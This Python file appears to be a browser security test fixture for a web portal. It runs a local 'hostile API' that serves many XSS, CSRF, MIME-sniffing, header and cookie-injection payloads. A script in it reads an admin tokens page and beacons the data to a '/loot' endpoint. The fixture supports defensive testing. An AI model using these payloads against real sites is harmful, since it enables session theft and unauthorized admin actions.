"""An API that answers with attacks, and pages of a portal that hold some; for a real browser.

Whatever gets to run on our origin reads the admin portal and brings what it read to `/loot`.
"""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import urlsplit

HTML, JS, SVG = "text/html", "text/javascript", "image/svg+xml"
COOKIE = "admin_session=planted; Path=/"


@dataclass(frozen=True)
class Attack:
    """An answer of the API."""

    body: str
    content_type: str = HTML
    headers: tuple[tuple[str, str], ...] = ()
    status: int = 200


@dataclass
class HostileAPI:
    """Answers each path with its attack, remembers what it was sent."""

    url: str  # not on the host of the portals: cookies know no ports
    mount: str  # where we serve it by path, with a `%s` for the attack's name
    attacks: dict[str, Attack] = field(default_factory=dict)
    loot: list[str] = field(default_factory=list)
    cookies: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def at(self, name: str) -> str:
        """Return our address of an attack, by path."""
        return self.mount % name

    @property
    def script(self) -> str:
        """A script that looks for an admin's session and tells what it found."""
        return (
            f"new Image().src='{self.url}/loot?ran-on-'+self.origin;"
            "fetch('/p/admin/tokens').then(function(r){return r.text()}).then(function(t){"
            f"new Image().src='{self.url}/loot?read-'+t.length}});"
        )


@contextmanager
def hostile_api(mount: str) -> Iterator[HostileAPI]:
    """Serve the attacks on a port of this machine."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.answer()

        def do_POST(self) -> None:
            self.answer()

        def answer(self) -> None:
            path = urlsplit(self.path).path
            api.asked.append(path.removeprefix("/"))
            api.cookies.extend(self.headers.get_all("cookie") or [])
            if path == "/loot":
                api.loot.append(self.path)
            attack = api.attacks.get(path.removeprefix("/"), Attack("nothing", "text/plain"))
            body = attack.body.encode("latin-1")
            self.send_response(attack.status)
            if attack.content_type:
                self.send_header("content-type", attack.content_type)
            for name, value in attack.headers:
                self.send_header(name, value)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    api = HostileAPI(f"http://localhost:{server.server_port}", mount)
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield api
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def answers_of(api: HostileAPI) -> dict[str, Attack]:
    """Write answers that attack whoever opens them, or whatever page takes them in."""
    return {**_documents(api), **_types(api), **_headers(api)}


def _page(api: HostileAPI) -> str:
    return f"<!doctype html><script>{api.script}</script>"


def _documents(api: HostileAPI) -> dict[str, Attack]:
    """Write pages."""
    run, evil, page = api.script, api.url, _page(api)
    inner = page.replace('"', "&quot;")
    return {
        "script": Attack(page),
        "handler": Attack(f'<img src="x:" onerror="{run}"><body onload="{run}">'),
        "module": Attack(f'<script type="module">{run}</script>'),
        "own-script": Attack(f'<script src="{api.at("js")}"></script>'),
        "foreign-script": Attack(f'<script src="{evil}/js"></script>'),
        "import-map": Attack(
            f'<script type="importmap">{{"imports":{{"a":"{api.at("js")}"}}}}</script>'
            '<script type="module">import "a"</script>'
        ),
        "srcdoc": Attack(f'<iframe srcdoc="{inner}"></iframe>'),
        "data-frame": Attack(f'<iframe src="data:text/html,{inner}"></iframe>'),
        "frame-of-admin": Attack('<iframe src="/p/admin"></iframe>'),
        "object": Attack(f'<object data="{api.at("svg")}"></object><embed src="{api.at("svg")}">'),
        "meta-refresh": Attack(f'<meta http-equiv="refresh" content="0;url=javascript:{run}">'),
        "meta-refresh-on": Attack(f'<meta http-equiv="refresh" content="0;{api.at("script")}">'),
        "meta-cookie": Attack(f'<meta http-equiv="set-cookie" content="{COOKIE}">'),
        "link": Attack(f'<a id="go" href="javascript:{run}">go</a>'),
        "form": Attack(
            '<form method="post" action="/p/admin/tokens"><input name="name" value="theirs">'
            '<button id="go">go</button></form>'
        ),
        "base": Attack(f'<base href="{evil}/"><script src="js"></script>'),
    }


def _types(api: HostileAPI) -> dict[str, Attack]:
    """Write what is no page, or does not say so."""
    run, page = api.script, _page(api)
    xslt = (
        '<?xml version="1.0"?><xsl:stylesheet version="1.0" '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>'
        f"{run}</script></html></xsl:template></xsl:stylesheet>"
    )
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></html>'
    return {
        "svg": Attack(svg, SVG),
        "xhtml": Attack(xhtml, "application/xhtml+xml"),
        "xml": Attack(xhtml, "application/xml"),
        "xslt": Attack(xslt, "text/xsl"),
        "transformed": Attack(
            f'<?xml-stylesheet type="text/xsl" href="{api.at("xslt")}"?><a/>', "text/xml"
        ),
        "sniffed": Attack(page, ""),
        "sniffed-text": Attack(page, "text/plain"),
        "sniffed-image": Attack(page, "image/png"),
        "nonsense-type": Attack(page, "x"),
        "utf-7": Attack("+ADw-script+AD4-" + run + "+ADw-/script+AD4-", "text/html; charset=utf-7"),
        "replaced": Attack(
            f"--x\r\ncontent-type: text/html\r\n\r\n{page}\r\n--x--",
            "multipart/x-mixed-replace; boundary=x",
        ),
        "mhtml": Attack(
            f"content-type: multipart/related; boundary=x\r\n\r\n--x\r\n"
            f"content-type: text/html\r\n\r\n{page}\r\n--x--",
            "message/rfc822",
        ),
        "pdf": Attack(
            "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(javascript:"
            f"{run})>>>>endobj trailer<</Root 1 0 R>>",
            "application/pdf",
        ),
    }


def _headers(api: HostileAPI) -> dict[str, Attack]:
    """Write headers that loosen, lead elsewhere or set something, and what is to be run."""
    run, page = api.script, _page(api)
    loose = "script-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin allow-forms"
    return {
        "inline-file": Attack(page, HTML, (("content-disposition", "inline; filename=a.html"),)),
        "loose-policy": Attack(page, HTML, (("content-security-policy", loose),)),
        "loose-policies": Attack(page, HTML, (("content-security-policy", f"{loose}, {loose}"),)),
        "severed": Attack(page, HTML, (("cross-origin-opener-policy", "same-origin"),)),
        "location": Attack("", HTML, (("location", f"javascript:{run}"),), 302),
        "refresh": Attack("", HTML, (("refresh", f"0;url=javascript:{run}"),)),
        "error": Attack(page, HTML, (("x-gatehouse-error", "theirs"),), 500),
        "cookie": Attack(page, HTML, (("set-cookie", COOKIE),)),
        "cookie-host": Attack("", HTML, (("set-cookie", f"__Host-{COOKIE}; Secure"),)),
        "cookie-spaced": Attack("", HTML, (("set-cookie", f" {COOKIE}"), ("set-cookie", "a=1"))),
        "cookies": Attack("", HTML, tuple(("set-cookie", f"c{n}=1; Path=/") for n in range(90))),
        "clear": Attack("", HTML, (("clear-site-data", '"*"'),)),
        "js": Attack(run, JS),
        "worker": Attack(run, JS, (("service-worker-allowed", "/"),)),
        "style": Attack("body{display:none!important}", "text/css"),
        "to-admin": Attack("", HTML, (("location", "/p/admin/tokens"),), 307),
    }


def pages_of(api: HostileAPI) -> dict[str, str]:
    """Write pages of the portal, by their paths, that go for the admin portal beside it."""
    return {**_takers(api), **_senders(api)}


def _takers(api: HostileAPI) -> dict[str, str]:
    """Write pages that run or take in something."""
    run, js, evil = api.script, api.at("js"), api.url
    inner = f"&lt;script&gt;{run}&lt;/script&gt;"
    return {
        "/h/inline": f"<script>{run}</script>",
        "/h/handler": f'<img src="x:" onerror="{run}">',
        "/h/api-script": f'<script src="{js}"></script>',
        "/h/api-module": f'<script type="module" src="{js}"></script>',
        "/h/echo-script": f'<script src="/echo/?{run}"></script>',
        "/h/foreign-script": f'<script src="{evil}/js"></script>',
        "/h/error-script": '<script src="/gateway/staging/api/x"></script>',
        "/h/page-script": '<script src="/h/inline"></script>',
        "/h/spec-script": '<script src="/swagger/spec/echo_api.json"></script>',
        "/h/up-script": f'<script src="/javascripts/..%2f..{js}"></script>',
        "/h/redirected-script": '<script src="/javascripts?x"></script>',
        "/h/data-script": f'<script src="data:text/javascript,{run}"></script>',
        "/h/preload": f'<link rel="modulepreload" href="{js}"><link rel="preload" as="script" '
        f'href="{js}">',
        "/h/import-map": f'<script type="importmap">{{"imports":{{"a":"{js}"}}}}</script>'
        '<script type="module">import "a"</script>',
        "/h/svg": f'<svg><script>{run}</script><use href="{api.at("svg")}#x"/></svg>',
        "/h/math": f'<math><mtext xlink:href="javascript:{run}" id="go">go</mtext></math>',
        "/h/frame": f'<iframe src="{api.at("script")}"></iframe>',
        "/h/srcdoc": f'<iframe srcdoc="{inner}"></iframe>',
        "/h/object": f'<object data="{api.at("script")}"></object><embed src="{api.at("svg")}">',
        "/h/frame-of-admin": '<iframe src="/p/admin"></iframe><object data="/p/admin"></object>',
        "/h/base": f'<base href="{evil}/"><script src="js"></script>',
        "/h/meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{run}">',
        "/h/meta-data": f'<meta http-equiv="refresh" content="0;url=data:text/html,{inner}">',
        "/h/meta-cookie": f'<meta http-equiv="set-cookie" content="{COOKIE}">',
        "/h/link": f'<a id="go" href="javascript:{run}">go</a>',
        "/h/ping": f'<a id="go" href="/plans" ping="/p/admin/tokens {evil}/loot?ping">go</a>',
        "/h/style": f'<link rel="stylesheet" href="{api.at("style")}"><p id="seen">seen</p>',
        "/h/admin-style": '<link rel="stylesheet" href="/p/admin/tokens">',
        "/h/manifest": f'<link rel="manifest" href="{js}">',
        "/h/speculation": '<script type="speculationrules">{"prerender":[{"urls":["/p/admin"]}]}'
        "</script>",
        "/h/prefetch": '<link rel="prefetch" href="/p/admin/tokens">',
    }


def _senders(api: HostileAPI) -> dict[str, str]:
    """Write pages whose form is sent to the admin portal, and one that tells what follows it."""
    evil = api.url
    fields = '<input name="name" value="theirs"><input name="permission" value="rw">'
    button = '<button id="go">go</button></form>'
    post = '<form method="post" action="/p/admin/tokens"'
    return {
        "/h/post": f"{post}>{fields}{button}",
        "/h/post-silently": f'{post} referrerpolicy="no-referrer">{fields}{button}'
        '<meta name="referrer" content="no-referrer">',
        "/h/post-as-origin": f'<meta name="referrer" content="origin">{post}>{fields}{button}',
        "/h/post-to-window": f'{post} target="admin">{fields}{button}',
        "/h/post-text": '<form method="post" enctype="text/plain" action="/admin/api/graphql">'
        f'<input name=\'{{"query":"mutation{{__typename}}","x":"\' value=\'"}}\'>{button}',
        "/h/post-logout": f'<form method="post" action="/p/admin/logout">{button}',
        "/h/post-login": '<form method="post" action="/p/admin/login"><input name="username" '
        f'value="theirs"><input name="password" value="theirs">{button}',
        "/h/post-by-api": f'<form method="post" action="{api.at("to-admin")}">{fields}{button}',
        "/h/post-elsewhere": f'<form method="post" action="{evil}/loot?form">{button}',
        "/h/dangling": f"<img src='{evil}/loot?dangling=",
    }
